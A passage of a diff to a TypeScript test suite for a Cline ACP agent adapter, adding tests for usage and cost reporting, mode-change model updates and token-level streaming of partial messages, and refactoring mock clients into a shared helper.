+    const apiRequest = (ts: number, cost: number, modelId?: string) => ({
+      ts,
+      type: "say",
+      say: "api_req_started",
+      text: JSON.stringify({ tokensIn: 1000, tokensOut: 200, cost }),
+      ...(modelId ? { modelInfo: { providerId: "anthropic", modelId, mode: "act" } } : {}),
+    });
+
+    async function runTurn(agent: ClineAcpAgent, sessionId: string, messages: unknown[]) {
+      vi.mocked(agent.getClineClient()!.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          yield {
+            stateJson: JSON.stringify({
+              mode: "act",
+              apiConfiguration: { actModeApiModelId: "configured-model" },
+              clineMessages: messages,
+            }),
+          };
+        },
+      });
+      return agent.prompt({ sessionId, prompt: [{ type: "text", text: "Go" }] });
+    }
+
+    it("should report turn, session and per-model usage in the prompt response", async () => {
+      const mockClineClient = createMockClineClient();
+      const agent = new ClineAcpAgent({ clineClient: mockClineClient, autoStart: false });
+      agent.setClient(createMockConnection());
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+
+      const response = await runTurn(agent, session.sessionId, [
+        apiRequest(1000, 0.01, "claude-sonnet-4"),
+        apiRequest(2000, 0.02),
+        { ts: 3000, type: "ask", ask: "completion_result", text: "Done" },
+      ]);
+
+      const usage = response._meta?.usage as Record<string, Record<string, unknown>>;
+      expect(usage.turn).toMatchObject({ cost: 0.03, tokensIn: 2000, requests: 2 });
+      expect(usage.session).toMatchObject({ cost: 0.03, requests: 2 });
+      // Requests without model info go to the model configured for the current mode
+      expect(usage.byModel["claude-sonnet-4"]).toMatchObject({ cost: 0.01, requests: 1 });
+      expect(usage.byModel["configured-model"]).toMatchObject({ cost: 0.02, requests: 1 });
+    });
+
+    it("should keep turn usage separate from the session total", async () => {
+      const mockClineClient = createMockClineClient();
+      const agent = new ClineAcpAgent({ clineClient: mockClineClient, autoStart: false });
+      agent.setClient(createMockConnection());
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+      const firstTurn = [
+        apiRequest(1000, 0.01),
+        { ts: 1500, type: "ask", ask: "followup", text: "More?" },
+      ];
+      await runTurn(agent, session.sessionId, firstTurn);
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({
+        stateJson: JSON.stringify({ clineMessages: firstTurn }),
+      });
+
+      const response = await runTurn(agent, session.sessionId, [
+        ...firstTurn,
+        apiRequest(2000, 0.02),
+        { ts: 3000, type: "ask", ask: "completion_result", text: "Done" },
+      ]);
+
+      const usage = response._meta?.usage as Record<string, Record<string, unknown>>;
+      expect(usage.turn).toMatchObject({ cost: 0.02, requests: 1 });
+      expect(usage.session).toMatchObject({ cost: 0.03, requests: 2 });
+    });
+
+    it("should end the turn with a usage summary", async () => {
+      const mockClineClient = createMockClineClient();
+      const mockConnection = createMockConnection();
+      const agent = new ClineAcpAgent({ clineClient: mockClineClient, autoStart: false });
+      agent.setClient(mockConnection);
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+
+      await runTurn(agent, session.sessionId, [
+        apiRequest(1000, 0.0123),
+        { ts: 3000, type: "ask", ask: "completion_result", text: "Done" },
+      ]);
+
+      const texts = vi
+        .mocked(mockConnection.sessionUpdate)
+        .mock.calls.map((call) => getChunkText(call[0]) ?? "");
+      expect(texts[texts.length - 1]).toContain("$0.0123 this turn (1,000 in / 200 out)");
+    });
+
+    it("should leave the summary out when usageSummary is off", async () => {
+      const mockClineClient = createMockClineClient();
+      const mockConnection = createMockConnection();
+      const agent = new ClineAcpAgent({
+        clineClient: mockClineClient,
+        autoStart: false,
+        usageSummary: false,
+      });
+      agent.setClient(mockConnection);
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+
+      await runTurn(agent, session.sessionId, [apiRequest(1000, 0.0123)]);
+
+      const texts = vi
+        .mocked(mockConnection.sessionUpdate)
+        .mock.calls.map((call) => getChunkText(call[0]) ?? "");
+      expect(texts.some((text) => text.includes("Usage"))).toBe(false);
+    });
+  });
+
   describe("Mode change emissions during streaming", () => {
     it("should emit current_mode_update when mode changes from plan to act", async () => {
       const stateUpdates = [
@@ -2434,35 +5242,15 @@ describe("Streaming Integration Tests", () => {
         },
       ];
 
-      const mockClineClient: ClineClient = {
-        Task: {
-          newTask: vi.fn().mockResolvedValue("task-123"),
-          askResponse: vi.fn().mockResolvedValue(undefined),
-          cancelTask: vi.fn().mockResolvedValue(undefined),
-        },
-        State: {
-          subscribeToState: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {
-              for (const update of stateUpdates) {
-                yield update;
-              }
-            },
-          }),
-          getLatestState: vi.fn().mockResolvedValue({ stateJson: "{}" }),
-          togglePlanActModeProto: vi.fn().mockResolvedValue(undefined),
-          updateAutoApprovalSettings: vi.fn().mockResolvedValue(undefined),
-          updateSettings: vi.fn().mockResolvedValue(undefined),
-          getProcessInfo: vi.fn().mockResolvedValue({ pid: 1234, address: "localhost:50051" }),
-        },
-        Ui: {
-          subscribeToPartialMessage: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {},
-          }),
-        },
-        Models: {
-          refreshOpenRouterModels: vi.fn().mockResolvedValue({ models: {} }),
+      const mockClineClient = createMockClineClient();
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({ stateJson: "{}" });
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          for (const update of stateUpdates) {
+            yield update;
+          }
         },
-      };
+      });
 
       const mockConnection = {
         sessionUpdate: vi.fn().mockResolvedValue(undefined),
@@ -2523,35 +5311,15 @@ describe("Streaming Integration Tests", () => {
         },
       ];
 
-      const mockClineClient: ClineClient = {
-        Task: {
-          newTask: vi.fn().mockResolvedValue("task-123"),
-          askResponse: vi.fn().mockResolvedValue(undefined),
-          cancelTask: vi.fn().mockResolvedValue(undefined),
-        },
-        State: {
-          subscribeToState: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {
-              for (const update of stateUpdates) {
-                yield update;
-              }
-            },
-          }),
-          getLatestState: vi.fn().mockResolvedValue({ stateJson: "{}" }),
-          togglePlanActModeProto: vi.fn().mockResolvedValue(undefined),
-          updateAutoApprovalSettings: vi.fn().mockResolvedValue(undefined),
-          updateSettings: vi.fn().mockResolvedValue(undefined),
-          getProcessInfo: vi.fn().mockResolvedValue({ pid: 1234, address: "localhost:50051" }),
-        },
-        Ui: {
-          subscribeToPartialMessage: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {},
-          }),
-        },
-        Models: {
-          refreshOpenRouterModels: vi.fn().mockResolvedValue({ models: {} }),
+      const mockClineClient = createMockClineClient();
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({ stateJson: "{}" });
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          for (const update of stateUpdates) {
+            yield update;
+          }
         },
-      };
+      });
 
       const mockConnection = {
         sessionUpdate: vi.fn().mockResolvedValue(undefined),
@@ -2586,6 +5354,146 @@ describe("Streaming Integration Tests", () => {
         (modeUpdateCalls[0][0] as { update: { currentModeId: string } }).update.currentModeId,
       ).toBe("plan");
     });
+
+    it("should report the new mode's model with the mode update", async () => {
+      const apiConfiguration = {
+        planModeOpenRouterModelId: "cheap/planner",
+        actModeOpenRouterModelId: "strong/executor",
+      };
+      const mockClineClient = createMockClineClient();
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          yield {
+            stateJson: JSON.stringify({ mode: "plan", apiConfiguration, clineMessages: [] }),
+          };
+          yield {
+            stateJson: JSON.stringify({
+              mode: "act",
+              apiConfiguration,
+              clineMessages: [{ ts: 1000, type: "ask", ask: "completion_result" }],
+            }),
+          };
+        },
+      });
+      const mockConnection = createMockConnection();
+      const agent = new ClineAcpAgent({ clineClient: mockClineClient, autoStart: false });
+      agent.setClient(mockConnection);
+
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+      await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+      expect(mockConnection.sessionUpdate).toHaveBeenCalledWith(
+        createCurrentModeUpdate(session.sessionId, "act", "cline:strong/executor"),
+      );
+    });
+  });
+
+  describe("Token-level streaming from partial messages", () => {
+    function chunkTexts(connection: AgentSideConnection, kind: string): string[] {
+      return vi
+        .mocked(connection.sessionUpdate)
+        .mock.calls.map((call) => call[0])
+        .filter((notification) => notification.update.sessionUpdate === kind)
+        .map((notification) => getChunkText(notification) ?? "")
+        .filter((text) => text !== "");
+    }
+
+    it("should emit only the new suffix for each partial update", async () => {
+      const mockClineClient = createMockClineClient();
+      const mockConnection = createMockConnection();
+
+      vi.mocked(mockClineClient.Ui.subscribeToPartialMessage).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          for (const text of ["Hel", "Hello wor", "Hello world"]) {
+            yield { ts: 2000, type: "SAY", say: "TEXT", text, partial: true } as ClineProtoMessage;
+          }
+        },
+      });
+      // The complete message arrives on the state stream after the partial updates
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          await new Promise((resolve) => setTimeout(resolve, 20));
+          yield {
+            stateJson: JSON.stringify({
+              mode: "plan",
+              clineMessages: [
+                { ts: 1000, type: "say", say: "text", text: "Hi" },
+                { ts: 2000, type: "say", say: "text", text: "Hello world!" },
+                {
+                  ts: 3000,
+                  type: "ask",
+                  ask: "plan_mode_respond",
+                  text: JSON.stringify({ response: "", options: [] }),
+                },
+              ],
+            }),
+          };
+        },
+      });
+
+      const agent = new ClineAcpAgent({ clineClient: mockClineClient, autoStart: false });
+      agent.setClient(mockConnection);
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+      await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Hi" }] });
+
+      expect(chunkTexts(mockConnection, "agent_message_chunk")).toEqual([
+        "Hel",
+        "lo wor",
+        "ld",
+        "!",
+      ]);
+    });
+
+    it("should cancel the partial stream when the turn ends", async () => {
+      const mockClineClient = createMockClineClient();
+      const agent = new ClineAcpAgent({ clineClient: mockClineClient, autoStart: false });
+      agent.setClient(createMockConnection());
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+      await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Hi" }] });
+
+      const [, options] = vi.mocked(mockClineClient.Ui.subscribeToPartialMessage).mock.calls[0];
+      expect(options?.signal?.aborted).toBe(true);
+    });
+
+    it("should stream reasoning as agent_thought_chunk deltas", async () => {
+      const mockClineClient = createMockClineClient();
+      const mockConnection = createMockConnection();
+
+      vi.mocked(mockClineClient.Ui.subscribeToPartialMessage).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          for (const text of ["Let me", "Let me think"]) {
+            yield {
+              ts: 2000,
+              type: "SAY",
+              say: "REASONING",
+              text,
+              partial: true,
+            } as ClineProtoMessage;
+          }
+        },
+      });
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          await new Promise((resolve) => setTimeout(resolve, 20));
+          yield {
+            stateJson: JSON.stringify({
+              mode: "plan",
+              clineMessages: [
+                { ts: 2000, type: "say", say: "reasoning", text: "Let me think" },
+                { ts: 3000, type: "ask", ask: "followup", text: "Which file?" },
+              ],
+            }),
+          };
+        },
+      });
+
+      const agent = new ClineAcpAgent({ clineClient: mockClineClient, autoStart: false });
+      agent.setClient(mockConnection);
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+      await agent.prompt({ sessionId: session.sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+      expect(chunkTexts(mockConnection, "agent_thought_chunk")).toEqual(["Let me", " think"]);
+    });
   });
 
   describe("Tool call in_progress → completed flow", () => {
@@ -2638,35 +5546,15 @@ describe("Streaming Integration Tests", () => {
         },
       ];
 
-      const mockClineClient: ClineClient = {
-        Task: {
-          newTask: vi.fn().mockResolvedValue("task-123"),
-          askResponse: vi.fn().mockResolvedValue(undefined),
-          cancelTask: vi.fn().mockResolvedValue(undefined),
-        },
-        State: {
-          subscribeToState: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {
-              for (const update of stateUpdates) {
-                yield update;
-              }
-            },
-          }),
-          getLatestState: vi.fn().mockResolvedValue({ stateJson: "{}" }),
-          togglePlanActModeProto: vi.fn().mockResolvedValue(undefined),
-          updateAutoApprovalSettings: vi.fn().mockResolvedValue(undefined),
-          updateSettings: vi.fn().mockResolvedValue(undefined),
-          getProcessInfo: vi.fn().mockResolvedValue({ pid: 1234, address: "localhost:50051" }),
-        },
-        Ui: {
-          subscribeToPartialMessage: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {},
-          }),
-        },
-        Models: {
-          refreshOpenRouterModels: vi.fn().mockResolvedValue({ models: {} }),
+      const mockClineClient = createMockClineClient();
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({ stateJson: "{}" });
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          for (const update of stateUpdates) {
+            yield update;
+          }
         },
-      };
+      });
 
       const mockConnection = {
         sessionUpdate: vi.fn().mockResolvedValue(undefined),
@@ -2769,35 +5657,15 @@ describe("Streaming Integration Tests", () => {
         },
       ];
 
-      const mockClineClient: ClineClient = {
-        Task: {
-          newTask: vi.fn().mockResolvedValue("task-123"),
-          askResponse: vi.fn().mockResolvedValue(undefined),
-          cancelTask: vi.fn().mockResolvedValue(undefined),
-        },
-        State: {
-          subscribeToState: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {
-              for (const update of stateUpdates) {
-                yield update;
-              }
-            },
-          }),
-          getLatestState: vi.fn().mockResolvedValue({ stateJson: "{}" }),
-          togglePlanActModeProto: vi.fn().mockResolvedValue(undefined),
-          updateAutoApprovalSettings: vi.fn().mockResolvedValue(undefined),
-          updateSettings: vi.fn().mockResolvedValue(undefined),
-          getProcessInfo: vi.fn().mockResolvedValue({ pid: 1234, address: "localhost:50051" }),
-        },
-        Ui: {
-          subscribeToPartialMessage: vi.fn().mockReturnValue({
-            async *[Symbol.asyncIterator]() {},
-          }),
-        },
-        Models: {
-          refreshOpenRouterModels: vi.fn().mockResolvedValue({ models: {} }),
+      const mockClineClient = createMockClineClient();
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({ stateJson: "{}" });
+      vi.mocked(mockClineClient.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          for (const update of stateUpdates) {
+            yield update;
+          }
         },
-      };
+      });
 
       // Mock connection that rejects the tool
       const mockConnection = {